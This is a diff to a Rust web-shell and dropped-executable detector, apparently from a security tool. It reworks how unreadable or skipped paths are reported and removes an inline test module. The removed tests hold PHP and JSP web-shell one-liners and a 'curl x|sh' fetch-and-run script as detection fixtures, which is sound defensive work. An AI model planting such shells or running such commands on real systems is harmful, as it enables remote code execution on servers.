@@ -4,14 +4,19 @@
 //! root, never through a link, so far and no further; what a server writes all day (caches, uploads) is told from a web
 //! shell by its text.
 
+use std::collections::BTreeMap;
+use std::ffi::OsStr;
 use std::io::Read as _;
 use std::os::fd::OwnedFd;
+use std::os::unix::ffi::OsStrExt as _;
 use std::path::{Path, PathBuf};
 use std::sync::OnceLock;
 
 use regex::RegexSet;
 use rustix::fs::{AtFlags, CWD, Dir, FileType, Mode, OFlags, ResolveFlags, Stat, openat, openat2, statat};
+use rustix::io::Errno;
 use tripoint_model::Timestamp;
+use tripoint_model::text::visible;
 
 use crate::before::Window;
 
@@ -62,13 +67,13 @@ const ANYBODYS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm"];
 
 /// Walks the folders.
 pub fn dropped(look: &Look<'_>) -> Found {
-    let mut walk = Walk { look, found: Found::default(), entries: 0, read: 0 };
+    let mut walk = Walk { look, files: Vec::new(), losses: Losses::default(), entries: 0, read: 0 };
     let root = openat(CWD, look.root, OFlags::PATH | OFlags::DIRECTORY | OFlags::CLOEXEC, Mode::empty());
     let root = match root {
         Ok(root) => root,
         Err(error) => {
-            walk.found.missing.push(format!("its files cannot be looked at: {error}"));
-            return walk.found;
+            let missing = vec![format!("its files cannot be looked at: {error}")];
+            return Found { files: Vec::new(), missing };
         }
     };
     let served = look.served.iter().map(|path| (path.as_path(), true));
@@ -76,82 +81,155 @@ pub fn dropped(look: &Look<'_>) -> Found {
         let resolve = ResolveFlags::IN_ROOT | ResolveFlags::NO_MAGICLINKS;
         match openat2(&root, path, FOLDER, Mode::empty(), resolve) {
             Ok(folder) => walk.folder(folder, path, is_served, 0),
-            Err(rustix::io::Errno::NOENT) => {}
-            Err(error) => walk.found.missing.push(format!("{}: {error}", path.display())),
+            Err(Errno::NOENT) => {}
+            Err(error) => walk.losses.add(&format!("not opened: {error}"), path),
         }
     }
-    walk.found.files.sort_by(|a, b| (a.at, &a.path).cmp(&(b.at, &b.path)));
-    walk.found.files.dedup_by(|a, b| a.path == b.path);
-    walk.found.files.truncate(FILES_MAX);
-    walk.found
+    let mut files = walk.files;
+    files.sort_by(|a, b| (a.at, &a.path).cmp(&(b.at, &b.path)));
+    files.dedup_by(|a, b| a.path == b.path);
+    for file in files.iter().skip(FILES_MAX) {
+        walk.losses.add("appeared too, and no more are told", &file.path);
+    }
+    files.truncate(FILES_MAX);
+    Found { files, missing: walk.losses.told() }
 }
 
 const FOLDER: OFlags = OFlags::RDONLY.union(OFlags::DIRECTORY).union(OFlags::NONBLOCK).union(OFlags::CLOEXEC);
 
+/// What was not looked at: each reason with how many there are and the first of them.
+#[derive(Default)]
+struct Losses(BTreeMap<String, (PathBuf, u64)>);
+
+/// Reasons that are told apart: the system has few.
+const REASONS_MAX: usize = 32;
+
+impl Losses {
+    fn add(&mut self, reason: &str, path: &Path) {
+        let reason = if self.0.len() < REASONS_MAX { reason } else { "not looked at" };
+        self.0.entry(reason.to_owned()).or_insert_with(|| (path.to_owned(), 0)).1 += 1;
+    }
+
+    fn told(self) -> Vec<String> {
+        let told = |(reason, (path, count)): (String, (PathBuf, u64))| match count {
+            1 => format!("{}: {reason}", escaped(&path)),
+            _ => format!("{} and {} more: {reason}", escaped(&path), count - 1),
+        };
+        self.0.into_iter().map(told).collect()
+    }
+}
+
+/// A path in letters: its bytes that are no text, or that steer a terminal, as `\xff` and `\u{1b}`.
+pub fn escaped(path: &Path) -> String {
+    let mut text = String::new();
+    for chunk in path.as_os_str().as_bytes().utf8_chunks() {
+        text.push_str(&visible(chunk.valid()));
+        text.extend(chunk.invalid().iter().map(|byte| format!("\\x{byte:02x}")));
+    }
+    text
+}
+
 struct Walk<'w> {
     look: &'w Look<'w>,
-    found: Found,
+    files: Vec<Dropped>,
+    losses: Losses,
     entries: usize,
     read: usize,
 }
 
 impl Walk<'_> {
     fn folder(&mut self, folder: OwnedFd, path: &Path, is_served: bool, depth: usize) {
-        let Ok(entries) = Dir::read_from(&folder) else { return };
-        for entry in entries.flatten() {
-            let Ok(name) = entry.file_name().to_str() else { continue };
+        let entries = match Dir::read_from(&folder) {
+            Ok(entries) => entries,
+            Err(error) => return self.losses.add(&format!("not listed: {error}"), path),
+        };
+        for entry in entries {
+            let entry = match entry {
+                Ok(entry) => entry,
+                Err(error) => return self.losses.add(&format!("listed in part: {error}"), path),
+            };
+            let name = OsStr::from_bytes(entry.file_name().to_bytes());
             if name == "." || name == ".." {
                 continue;
             }
             self.entries += 1;
-            if self.entries > ENTRIES_MAX || (self.entries.is_multiple_of(1024) && (self.look.is_over)()) {
-                let reason = format!("{}: looked through in part, a bound was met", path.display());
-                if self.found.missing.len() < FILES_MAX && !self.found.missing.contains(&reason) {
-                    self.found.missing.push(reason);
-                }
-                return;
+            if self.entries > ENTRIES_MAX {
+                let reason = format!("looked through in part, {ENTRIES_MAX} entries were seen");
+                return self.losses.add(&reason, path);
             }
-            let Ok(about) = statat(&folder, name, AtFlags::SYMLINK_NOFOLLOW) else { continue };
-            match FileType::from_raw_mode(about.st_mode) {
-                FileType::Directory if depth < DEPTH_MAX => {
-                    let resolve = ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_XDEV;
-                    if let Ok(below) = openat2(&folder, name, FOLDER, Mode::empty(), resolve) {
-                        self.folder(below, &path.join(name), is_served, depth + 1);
-                    }
-                }
-                FileType::RegularFile => self.file(&folder, path, name, &about, is_served),
-                _ => {}
+            if self.entries.is_multiple_of(1024) && (self.look.is_over)() {
+                // Nothing else is begun either.
+                self.entries = ENTRIES_MAX;
+                return self.losses.add("looked through in part, the time is over", path);
+            }
+            match statat(&folder, name, AtFlags::SYMLINK_NOFOLLOW) {
+                Ok(about) => self.entry(&folder, path, name, &about, (is_served, depth)),
+                // Gone since.
+                Err(Errno::NOENT) => {}
+                Err(error) => self.losses.add(&format!("not looked at: {error}"), &path.join(name)),
             }
         }
     }
 
-    fn file(&mut self, folder: &OwnedFd, path: &Path, name: &str, about: &Stat, is_served: bool) {
+    fn entry(&mut self, folder: &OwnedFd, path: &Path, name: &OsStr, about: &Stat, place: (bool, usize)) {
+        let (is_served, depth) = place;
+        match FileType::from_raw_mode(about.st_mode) {
+            FileType::Directory if depth < DEPTH_MAX => {
+                let resolve = ResolveFlags::BENEATH | ResolveFlags::NO_SYMLINKS | ResolveFlags::NO_XDEV;
+                match openat2(folder, name, FOLDER, Mode::empty(), resolve) {
+                    Ok(below) => self.folder(below, &path.join(name), is_served, depth + 1),
+                    // Gone since, or another thing by now.
+                    Err(Errno::NOENT | Errno::LOOP | Errno::NOTDIR) => {}
+                    Err(Errno::XDEV) => self.losses.add("another file system, not entered", &path.join(name)),
+                    Err(error) => self.losses.add(&format!("not opened: {error}"), &path.join(name)),
+                }
+            }
+            FileType::Directory => {
+                let reason = format!("not entered, it lies deeper than {DEPTH_MAX} folders");
+                self.losses.add(&reason, &path.join(name));
+            }
+            FileType::RegularFile => self.file(folder, path, name, about, is_served),
+            _ => {}
+        }
+    }
+
+    fn file(&mut self, folder: &OwnedFd, path: &Path, name: &OsStr, about: &Stat, is_served: bool) {
         let at = changed(about);
         let Window { from, to } = self.look.window;
-        if !(from..=to).contains(&at) || self.read >= READ_MAX || self.found.files.len() >= FILES_MAX * 4 {
+        if !(from..=to).contains(&at) {
             return;
         }
         let is_own = about.st_uid == self.look.uid;
         let may_run = about.st_mode & 0o111 != 0;
         let is_script = is_served && SCRIPTS.iter().any(|end| ends_with(name, end));
-        let may_be_one = is_script || (is_own && may_run);
-        if !may_be_one {
+        if !(is_script || (is_own && may_run)) {
             return;
+        }
+        if self.read >= READ_MAX || self.files.len() >= FILES_MAX * 4 {
+            return self.losses.add("appeared, and was not read: too many did", &path.join(name));
         }
         self.read += 1;
         let flags = OFlags::RDONLY | OFlags::NOFOLLOW | OFlags::NONBLOCK | OFlags::CLOEXEC;
-        let Ok(file) = openat2(folder, name, flags, Mode::empty(), ResolveFlags::BENEATH) else { return };
         let mut bytes = Vec::new();
-        if std::fs::File::from(file).take(TEXT_BYTES_MAX).read_to_end(&mut bytes).is_err() {
+        let read = openat2(folder, name, flags, Mode::empty(), ResolveFlags::BENEATH)
+            .map_err(std::io::Error::from)
+            .and_then(|file| std::fs::File::from(file).take(TEXT_BYTES_MAX).read_to_end(&mut bytes));
+        if let Err(error) = read {
+            if error.kind() != std::io::ErrorKind::NotFound {
+                self.losses.add(&format!("appeared, and was not read: {error}"), &path.join(name));
+            }
             return;
         }
         let what = match () {
             () if is_script && is_web_shell(&String::from_utf8_lossy(&bytes)) => "a web shell",
             () if is_own && may_run && bytes.starts_with(b"\x7fELF") => "an executable program",
             () if is_own && may_run && bytes.starts_with(b"#!") => "an executable script",
+            () if is_script && bytes.len() as u64 == TEXT_BYTES_MAX => {
+                return self.losses.add("appeared, and only its first 64 KiB were read", &path.join(name));
+            }
             () => return,
         };
-        self.found.files.push(Dropped { path: path.join(name), at, what });
+        self.files.push(Dropped { path: path.join(name), at, what });
     }
 }
 
@@ -160,8 +238,9 @@ fn changed(about: &Stat) -> Timestamp {
     Timestamp(about.st_ctime.saturating_mul(1_000_000).saturating_add(micros))
 }
 
-fn ends_with(name: &str, end: &str) -> bool {
-    name.len() > end.len() && name.as_bytes()[name.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
+fn ends_with(name: &OsStr, end: &str) -> bool {
+    let name = name.as_bytes();
+    name.len() > end.len() && name[name.len() - end.len()..].eq_ignore_ascii_case(end.as_bytes())
 }
 
 /// What servers run where they find it.
@@ -216,68 +295,4 @@ const RUNS: &[&str] = &[
 ];
 
 #[cfg(test)]
-mod tests {
-    use std::os::unix::fs::{PermissionsExt as _, symlink};
-
-    use super::*;
-
-    fn look(root: &Path, seconds: (i64, i64)) -> Vec<(String, &'static str)> {
-        let now = Timestamp::from_system(std::time::SystemTime::now());
-        let window =
-            Window { from: Timestamp(now.0 + seconds.0 * 1_000_000), to: Timestamp(now.0 + seconds.1 * 1_000_000) };
-        let served = [PathBuf::from("/srv/www"), PathBuf::from("/srv/none")];
-        let uid = rustix::process::getuid().as_raw();
-        let found = dropped(&Look { root, served: &served, uid, window, is_over: &|| false });
-        assert!(found.missing.is_empty(), "{:?}", found.missing);
-        found.files.into_iter().map(|file| (file.path.display().to_string(), file.what)).collect()
-    }
-
-    fn write(root: &Path, path: &str, text: &[u8], mode: u32) {
-        let path = root.join(path);
-        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
-        std::fs::write(&path, text).unwrap();
-        std::fs::set_permissions(&path, std::fs::Permissions::from_mode(mode)).unwrap();
-    }
-
-    #[test]
-    fn what_an_attack_leaves_is_told_from_what_servers_write() {
-        let folder = tempfile::tempdir().unwrap();
-        let root = folder.path();
-        write(root, "srv/www/up/x.PHP", b"<?php @eval($_POST['c']); ?>", 0o644);
-        write(root, "srv/www/a/b.jsp", b"<% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", 0o644);
-        write(root, "srv/www/cgi-bin/t", b"\x7fELF\x02", 0o755);
-        write(root, "tmp/.x/kdevtmpfsi", b"\x7fELF\x02", 0o755);
-        write(root, "var/tmp/run", b"#!/bin/sh\ncurl x|sh\n", 0o700);
-        // Caches, pages, uploads, programs that may not be run.
-        write(root, "srv/www/cache/1.php", b"<?php return ['a' => 1]; ?>", 0o644);
-        write(root, "srv/www/form.php", b"<?php echo htmlspecialchars($_GET['q']); ?>", 0o644);
-        write(root, "srv/www/up/x.jpg", b"<?php @eval($_POST['c']); ?>", 0o644);
-        write(root, "tmp/data", b"\x7fELF\x02", 0o644);
-        write(root, "home/x.php", b"<?php @eval($_POST['c']); ?>", 0o755);
-        write(root, "secret/y.php", b"<?php @eval($_POST['c']); ?>", 0o755);
-        symlink("/secret", root.join("srv/www/link")).unwrap();
-        symlink("/secret/y.php", root.join("srv/www/y.php")).unwrap();
-        let mut found = look(root, (-30, 30));
-        found.sort();
-        assert_eq!(
-            found,
-            [
-                ("/srv/www/a/b.jsp".to_owned(), "a web shell"),
-                ("/srv/www/cgi-bin/t".to_owned(), "an executable program"),
-                ("/srv/www/up/x.PHP".to_owned(), "a web shell"),
-                ("/tmp/.x/kdevtmpfsi".to_owned(), "an executable program"),
-                ("/var/tmp/run".to_owned(), "an executable script"),
-            ]
-        );
-        assert_eq!(look(root, (-90, -60)), [], "what was there before");
-    }
-
-    #[test]
-    fn a_time_of_writing_that_was_set_back_hides_nothing() {
-        let folder = tempfile::tempdir().unwrap();
-        write(folder.path(), "srv/www/x.php", b"<?php system($_GET['c']); ?>", 0o644);
-        let file = std::fs::File::options().write(true).open(folder.path().join("srv/www/x.php")).unwrap();
-        file.set_modified(std::time::UNIX_EPOCH).unwrap();
-        assert_eq!(look(folder.path(), (-30, 30)).len(), 1);
-    }
-}
+mod tests;
